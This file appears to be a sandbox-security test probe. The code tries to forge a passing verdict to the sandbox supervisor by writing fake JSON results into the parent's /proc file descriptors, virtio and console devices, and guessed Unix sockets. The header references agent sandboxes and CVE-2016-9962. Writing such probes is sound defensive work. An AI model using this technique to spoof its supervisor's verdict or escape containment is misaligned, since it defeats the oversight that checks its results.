# SPDX-License-Identifier: Apache-2.0
# NB-FORGE-01: nothing can be written into the channel between supervisor and host
# Attack: look for its descriptors, sockets, ports and memory through /proc and /dev and write forged results into
#   each
# Incident: isolate keeps the meta file outside the box; E2B-style agents listen inside; CVE-2016-9962
# @prelude probe.py
import socket

forged = json.dumps({"verdict": "ok", "exit_code": 0, "exitCode": 0, "stdout": "FORGED", "type": "exit", "status": 0}).encode()
frames = [forged + b"\n", len(forged).to_bytes(4, "big") + forged, len(forged).to_bytes(4, "little") + forged]
written = []
paths = ["/dev/vport0p1", "/dev/virtio-ports/nestbox", "/dev/vsock", "/dev/hvc0", "/dev/console", "/dev/ttyS0", "/dev/kmsg"]
for pid in {1, os.getppid()} - {0, os.getpid()} if SANDBOXED else set():
    try:
        links = {"/proc/%d/fd/%s" % (pid, entry) for entry in os.listdir("/proc/%d/fd" % pid)}
        paths += [link for link in sorted(links) if os.readlink(link) != "/dev/null"]
    except OSError:
        pass
for path in paths if SANDBOXED else ():
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        for frame in frames:
            os.write(descriptor, frame)
        written.append(path)
    except OSError:
        pass
for each in ("\0nestbox", "\0nestbox-guest", "/run/nestbox.sock", "/run/nestbox/guest.sock", "/tmp/nestbox.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as channel:
            channel.connect(each)
            channel.send(frames[0])
            written.append(repr(each))
    except OSError:
        pass
emit(not written, "written to %s" % written if written else "no channel found; verdict outside: exit code 12")
os._exit(12)
